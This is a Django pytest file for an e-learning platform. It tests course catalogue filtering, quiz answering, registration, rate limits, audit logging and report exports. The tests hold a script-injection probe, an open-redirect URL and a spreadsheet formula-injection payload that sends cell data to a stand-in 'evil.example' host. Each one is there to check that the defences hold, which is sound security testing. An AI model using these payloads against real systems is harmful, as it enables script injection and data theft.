import csv
import gzip
import io
import json

import pytest
from django.conf import settings
from django.core import mail
from django.test import Client
from django.urls import reverse

from conftest import login_with_second_factor
from rumbo.accounts.models import User
from rumbo.audit.models import AuditEntry
from rumbo.learning import services
from rumbo.learning.models import (
    Attempt,
    Course,
    Enrolment,
    Facilitator,
    LearnerProfile,
    Lesson,
    Question,
    Topic,
)
from rumbo.learning.tests.conftest import correct_data

pytestmark = pytest.mark.django_db
HTML_BUDGET = 14_600
PASSWORD = "un camino largo 2026"


def start_attempt(client, version, module=1) -> Attempt:
    response = client.post(
        reverse(
            "learning:quiz",
            kwargs={"slug": version.course.slug, "language": version.language, "module": module},
        )
    )
    assert response.status_code == 302, response.content[:300]
    return Attempt.objects.latest("pk")


def answer_url(attempt, question_id):
    return reverse("learning:answer", kwargs={"attempt": attempt.pk, "question": question_id})


def test_catalogue_filters_by_topic_and_language(client, course, short_course):
    page = client.get(reverse("learning:catalogue"), {"topic": "labour-migration"}).content.decode()
    assert "Labour migration and fair recruitment" in page
    assert "Countering Human Trafficking" not in page
    page = client.get(reverse("learning:catalogue"), {"language": "ar"}).content.decode()
    assert "Countering Human Trafficking" in page
    assert "Labour migration and fair" not in page


def test_catalogue_offers_only_topics_that_have_a_course(client, course):
    offered = Course.objects.filter(versions__is_published=True).values_list("topic", flat=True)
    assert set(offered) < set(Topic.values)  # some topic has no course to offer
    page = client.get(reverse("learning:catalogue")).content.decode()
    for topic in Topic.values:
        assert (f'value="{topic}"' in page) == (topic in offered), topic


def test_a_title_from_another_language_is_marked_with_its_language(client, course, short_course):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ar"
    page = client.get(reverse("learning:catalogue")).content.decode()
    arabic = course.versions.get(language="ar")
    assert f"<strong>{arabic.title}</strong>" in page  # in the page's language: unmarked
    shown = short_course.versions.get(language="es")  # no Arabic version: Spanish, marked
    assert f'<span lang="es" dir="ltr">{shown.title}</span>' in page


def test_catalogue_ignores_an_unknown_filter_value(client, course):
    response = client.get(reverse("learning:catalogue"), {"topic": "<script>"})
    assert response.status_code == 200


def test_arabic_version_is_arabic_and_right_to_left_whatever_the_cookie(client, course):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "es"
    lesson = Lesson.objects.get(module__version__language="ar", module__position=1)
    page = client.get(lesson.get_absolute_url()).content.decode()
    assert '<html lang="ar" dir="rtl">' in page
    assert "العناصر الثلاثة للاتجار" in page


def test_lesson_is_public_and_its_markdown_is_sanitised(client, course):
    lesson = Lesson.objects.get(module__version__language="es", module__position=1)
    lesson.body = (
        "Hola <script>alert(1)</script> <iframe src='https://video.example'></iframe>\n\n"
        "![x](https://tracker.example/p.png) ![ok](/media/a.png)"
    )
    lesson.video_url = "https://video.example/v"
    lesson.save()
    page = client.get(lesson.get_absolute_url()).content.decode()
    assert "<script>alert" not in page
    assert "<iframe" not in page
    assert "tracker.example" not in page
    assert 'src="/media/a.png"' in page
    assert 'href="https://video.example/v"' in page


def test_lesson_view_records_progress_and_resume_point(client, learner, enrolment):
    client.force_login(learner)
    lesson = Lesson.objects.get(module__version=enrolment.version, module__position=2)
    client.get(lesson.get_absolute_url())
    enrolment.refresh_from_db()
    assert enrolment.last_lesson == lesson
    page = client.get(enrolment.version.get_absolute_url()).content.decode()
    assert f'href="{lesson.get_absolute_url()}">' in page
    assert 'value="50"' in page  # module 2: lesson viewed, quiz not yet passed


def test_logged_in_lesson_page_fits_in_first_round_trip(client, learner, enrolment):
    client.force_login(learner)
    for language in ("es", "ar"):
        lesson = Lesson.objects.filter(module__version__language=language).first()
        if language == "ar":
            Enrolment.objects.create(user=learner, version=lesson.module.version)
        response = client.get(lesson.get_absolute_url(), headers={"accept-encoding": "gzip"})
        assert response["Content-Encoding"] == "gzip"
        assert len(response.content) <= HTML_BUDGET


def test_attempt_page_fits_in_first_round_trip(client, learner, enrolment):
    client.force_login(learner)
    attempt = start_attempt(client, enrolment.version)
    response = client.get(
        reverse("learning:attempt", kwargs={"attempt": attempt.pk}),
        headers={"accept-encoding": "gzip"},
    )
    assert len(response.content) <= HTML_BUDGET
    assert "learning/quiz.js" in gzip.decompress(response.content).decode()


def test_answer_saved_with_json_and_restored_on_reload(client, learner, enrolment):
    client.force_login(learner)
    attempt = start_attempt(client, enrolment.version)
    question = Question.objects.get(pk__in=attempt.question_ids, kind="single")
    choice = question.choices.get(is_correct=True)
    response = client.post(
        answer_url(attempt, question.pk),
        {"choice": choice.pk},
        headers={"accept": "application/json"},
    )
    assert response.json() == {"saved": True}
    page = client.get(reverse("learning:attempt", kwargs={"attempt": attempt.pk})).content.decode()
    assert f'value="{choice.pk}" checked' in page


def test_answer_without_javascript_redirects_back_to_the_question(client, learner, enrolment):
    client.force_login(learner)
    attempt = start_attempt(client, enrolment.version)
    question = Question.objects.get(pk__in=attempt.question_ids, kind="matching")
    data = {f"match-{key}": value for key, value in correct_data(question).items()}
    response = client.post(answer_url(attempt, question.pk), data)
    assert response.status_code == 302
    assert response["Location"].endswith(f"#q{question.pk}")
    assert attempt.answers.get().is_correct


@pytest.mark.parametrize(
    "data", [{"choice": "not-a-number"}, {"choice": "999999"}, {}, {"match-1": "2"}]
)
def test_tampered_answer_gets_a_clear_400(client, learner, enrolment, data):
    client.force_login(learner)
    attempt = start_attempt(client, enrolment.version)
    question = Question.objects.get(pk__in=attempt.question_ids, kind="single")
    response = client.post(
        answer_url(attempt, question.pk), data, headers={"accept": "application/json"}
    )
    assert response.status_code == 400
    assert response.json()["saved"] is False
    assert response.json()["error"]


def test_answer_to_question_not_in_attempt_is_refused(client, learner, enrolment):
    client.force_login(learner)
    attempt = start_attempt(client, enrolment.version)
    other = Question.objects.exclude(pk__in=attempt.question_ids).first()
    for question_id in (other.pk, 987654):
        response = client.post(answer_url(attempt, question_id), {"choice": "1"})
        assert response.status_code == 400
        # The message follows the course's language (this attempt is in Spanish).
        assert "no forma parte de tu intento" in response.content.decode()


def test_another_learners_attempt_is_not_found(client, learner, enrolment):
    client.force_login(learner)
    attempt = start_attempt(client, enrolment.version)
    intruder = User.objects.create_user(email="intruder@example.org", password="x")
    client.force_login(intruder)
    assert (
        client.get(reverse("learning:attempt", kwargs={"attempt": attempt.pk})).status_code == 404
    )
    question_id = attempt.question_ids[0]
    assert client.post(answer_url(attempt, question_id), {"choice": "1"}).status_code == 404


def test_attempt_beyond_limit_gets_a_clear_message(client, learner, enrolment):
    client.force_login(learner)
    for _number in range(3):
        attempt = start_attempt(client, enrolment.version)
        client.post(reverse("learning:submit", kwargs={"attempt": attempt.pk}))
    response = client.post(
        reverse(
            "learning:quiz",
            kwargs={"slug": enrolment.version.course.slug, "language": "es", "module": 1},
        )
    )
    assert response.status_code == 409
    assert "Ya usaste los 3 intentos" in response.content.decode()


def test_submitting_twice_is_refused_politely(client, learner, enrolment):
    client.force_login(learner)
    attempt = start_attempt(client, enrolment.version)
    url = reverse("learning:submit", kwargs={"attempt": attempt.pk})
    assert client.post(url).status_code == 302
    assert client.post(url).status_code == 409


def test_result_shows_feedback_with_explanations(client, learner, enrolment):
    client.force_login(learner)
    attempt = start_attempt(client, enrolment.version)
    for question in Question.objects.filter(pk__in=attempt.question_ids):
        services.answer_save(attempt=attempt, question_id=question.pk, data=correct_data(question))
    response = client.post(reverse("learning:submit", kwargs={"attempt": attempt.pk}), follow=True)
    page = response.content.decode()
    assert "100" in page
    assert "Para niños y niñas basta el acto" in page


def test_registration_verification_and_enrolment(
    client, course, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("learning:register"),
            {
                "full_name": "Rosa Díaz",
                "email": "rosa@example.org",
                "password": PASSWORD,
            },
        )
    assert response.status_code == 200
    link = next(word for word in mail.outbox[0].body.split() if "/campus/verify/" in word)
    version = course.versions.get(language="es")
    enrol = reverse("learning:enrol", kwargs={"slug": course.slug, "language": "es"})
    assert "_auth_user_id" not in client.session
    opened = client.get(link.removeprefix("http://testserver"))
    assert opened["Location"] == reverse("learning:catalogue")
    assert client.post(enrol).status_code == 302
    assert Enrolment.objects.filter(user__email="rosa@example.org", version=version).exists()


def test_the_link_opened_in_another_browser_confirms_but_does_not_log_in(
    client, course, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        register(client, "rosa@example.org")
    link = next(word for word in mail.outbox[0].body.split() if "/campus/verify/" in word)
    other = Client()
    opened = other.get(link.removeprefix("http://testserver"))
    assert opened["Location"] == reverse("learning:login")
    assert "_auth_user_id" not in other.session
    assert LearnerProfile.objects.get(user__email="rosa@example.org").email_verified_at


def test_registration_keeps_input_and_names_the_problem(client, db):
    response = client.post(
        reverse("learning:register"),
        {"full_name": "Rosa", "email": "not-an-email", "password": "short"},
    )
    page = response.content.decode()
    assert response.status_code == 400
    assert 'value="Rosa"' in page
    assert "errorlist" in page


def test_login_with_wrong_password_says_so(client, learner):
    response = client.post(
        reverse("learning:login"), {"username": learner.email, "password": "wrong"}
    )
    assert response.status_code == 400
    assert "not right" in response.content.decode()


def test_login_redirects_to_a_safe_next_only(client, learner):
    data = {"username": learner.email, "password": "correct horse battery staple"}
    response = client.post(reverse("learning:login"), data | {"next": "https://evil.example/"})
    assert response["Location"] == reverse("learning:catalogue")


def test_reports_are_refused_to_learners(client, learner, course):
    client.force_login(learner)
    assert client.get(reverse("learning:manage")).status_code == 403
    csv_url = reverse("learning:manage_csv", kwargs={"slug": course.slug})
    assert client.get(csv_url).status_code == 403


def test_facilitator_sees_only_their_courses(client, course, short_course):
    user = User.objects.create_user(email="marta@example.org", password="x")
    Facilitator.objects.filter(slug="marta-quiroga").update(user=user)
    login_with_second_factor(client, user)
    assert (
        client.get(reverse("learning:manage_course", kwargs={"slug": course.slug})).status_code
        == 200
    )
    other = reverse("learning:manage_course", kwargs={"slug": short_course.slug})
    assert client.get(other).status_code == 404


def test_csv_export_lists_enrolments_with_progress(admin_client, enrolment):
    lesson = Lesson.objects.filter(module__version=enrolment.version).earliest("pk")
    services.lesson_mark_viewed(enrolment=enrolment, lesson=lesson)
    response = admin_client.get(
        reverse("learning:manage_csv", kwargs={"slug": enrolment.version.course.slug})
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["email", "full_name", "language"]
    assert rows[1][0] == enrolment.user.email
    assert rows[1][4:6] == ["1", "11"]


def test_report_page_shows_completion_and_item_analysis(admin_client, enrolment):
    response = admin_client.get(
        reverse("learning:manage_course", kwargs={"slug": enrolment.version.course.slug})
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "Discrimination" in page


def test_xapi_export_has_actor_verb_object_and_result(admin_client, learner, enrolment):
    services.enrolment_start(user=learner, version=enrolment.version)
    Enrolment.objects.filter(pk=enrolment.pk).delete()
    enrolment = services.enrolment_start(user=learner, version=enrolment.version)
    quiz = enrolment.version.modules.get(position=1).quiz
    attempt = services.attempt_start(enrolment=enrolment, quiz=quiz)
    question = Question.objects.get(pk=attempt.question_ids[0])
    services.answer_save(attempt=attempt, question_id=question.pk, data=correct_data(question))
    services.attempt_submit(attempt=attempt)
    response = admin_client.get(
        reverse("learning:manage_statements", kwargs={"slug": enrolment.version.course.slug})
    )
    statements = json.loads(response.content)
    verbs = [statement["verb"]["id"].rsplit("/", 1)[-1] for statement in statements]
    assert verbs == ["launched", "answered", "failed"]
    answered = statements[1]
    assert len(answered["actor"]["mbox_sha1sum"]) == 40
    assert answered["object"]["id"].startswith(
        "http://testserver/campus/countering-human-trafficking/es/m1/quiz/"
    )
    assert answered["result"]["success"] is True
    assert isinstance(answered["result"]["response"], str)
    assert statements[2]["result"]["score"]["scaled"] < 0.7


def test_learner_profile_is_kept_apart_from_the_account(learner):
    assert LearnerProfile.objects.get(user=learner).email_verified_at is not None


def test_catalogue_lists_my_courses_with_the_resume_link(client, learner, enrolment):
    lesson = Lesson.objects.filter(module__version=enrolment.version, module__position=3).get()
    services.lesson_mark_viewed(enrolment=enrolment, lesson=lesson)
    client.force_login(learner)
    page = client.get(reverse("learning:catalogue")).content.decode()
    assert "My courses" in page
    assert f'href="{lesson.get_absolute_url()}"' in page


def test_unverified_learner_can_get_the_link_again(
    client, course, django_capture_on_commit_callbacks
):
    user = User.objects.create_user(email="late@example.org", password="x")
    client.force_login(user)
    enrol = reverse("learning:enrol", kwargs={"slug": course.slug, "language": "en"})
    refused = client.post(enrol)
    assert refused.status_code == 403
    assert reverse("learning:verify_again") in refused.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("learning:verify_again"))
    link = next(word for word in mail.outbox[0].body.split() if "/campus/verify/" in word)
    client.get(link.removeprefix("http://testserver"))
    assert client.post(enrol).status_code == 302


def test_csv_export_neutralises_a_formula_in_a_learners_name(admin_client, enrolment):
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    User.objects.filter(pk=enrolment.user_id).update(full_name=name)
    response = admin_client.get(
        reverse("learning:manage_csv", kwargs={"slug": enrolment.version.course.slug})
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][1] == "'" + name


@pytest.mark.parametrize(
    ("route", "action", "reason"),
    [
        ("learning:manage_course", AuditEntry.Action.READ, "course report"),
        ("learning:manage_csv", AuditEntry.Action.EXPORT, "enrolments CSV"),
        ("learning:manage_statements", AuditEntry.Action.EXPORT, "xAPI statements"),
    ],
)
def test_reads_and_exports_of_learners_records_are_audited(
    admin_client, admin_user, enrolment, route, action, reason
):
    course = enrolment.version.course
    response = admin_client.get(reverse(route, kwargs={"slug": course.slug}))
    assert response.status_code == 200
    entry = AuditEntry.objects.get(action=action)
    assert (entry.actor, entry.target_type, entry.target_id) == (
        admin_user,
        "learning.course",
        str(course.pk),
    )
    assert entry.reason == reason


@pytest.mark.parametrize(
    "route", ["learning:manage_course", "learning:manage_csv", "learning:manage_statements"]
)
def test_manage_pages_and_exports_are_never_stored(admin_client, enrolment, route):
    response = admin_client.get(reverse(route, kwargs={"slug": enrolment.version.course.slug}))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]


def test_manage_refusal_is_never_stored(client, learner):
    client.force_login(learner)
    response = client.get(reverse("learning:manage"))
    assert response.status_code == 403
    assert "no-store" in response["Cache-Control"]


def register(client, email: str, name: str = "Rosa Díaz", **headers):
    data = {"full_name": name, "email": email, "password": PASSWORD}
    return client.post(reverse("learning:register"), data, **headers)


def test_registration_does_not_reveal_an_existing_account(
    client, learner, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        existing = register(client, learner.email.upper())
        new = register(client, "nueva@example.org")
    assert existing.status_code == new.status_code == 200
    assert existing.content.decode().replace(
        learner.email.upper(), "@"
    ) == new.content.decode().replace("nueva@example.org", "@")
    assert "_auth_user_id" not in client.session
    told = next(message for message in mail.outbox if message.to == [learner.email])
    assert "Someone tried to register" in told.body
    assert "/campus/verify/" not in told.body
    assert User.objects.filter(email=learner.email).count() == 1


def test_a_300_character_email_is_refused_for_its_length(client, db):
    email = "a" * 288 + "@example.org"
    response = register(client, email)
    page = response.content.decode()
    assert response.status_code == 400
    assert "at most 254 characters" in page
    assert "already exists" not in page
    assert not User.objects.filter(email=email).exists()


def test_registration_is_rate_limited_per_email(client, db, settings):
    settings.RUMBO_CAMPUS_EMAIL_RATE_PER_EMAIL = "2/h"
    for attempt in range(2):
        assert (
            register(client, "rosa@example.org", REMOTE_ADDR=f"192.0.2.{attempt}").status_code
            == 200
        )
    mail.outbox.clear()
    response = register(client, "Rosa@example.org", REMOTE_ADDR="192.0.2.99")
    assert response.status_code == 429
    assert "Too many requests" in response.content.decode()
    assert mail.outbox == []


def test_registration_is_rate_limited_per_address(client, db, settings):
    settings.RUMBO_CAMPUS_EMAIL_RATE_PER_ADDRESS = "2/h"
    for attempt in range(2):
        assert register(client, f"rosa{attempt}@example.org").status_code == 200
    response = register(client, "rosa9@example.org")
    assert response.status_code == 429
    assert not User.objects.filter(email="rosa9@example.org").exists()


def test_sending_the_verification_again_is_rate_limited(client, db, settings):
    settings.RUMBO_CAMPUS_EMAIL_RATE_PER_EMAIL = "2/h"
    client.force_login(User.objects.create_user(email="late@example.org", password="x"))
    for _attempt in range(2):
        assert client.post(reverse("learning:verify_again")).status_code == 200
    response = client.post(reverse("learning:verify_again"))
    assert response.status_code == 429
    assert "Too many requests" in response.content.decode()
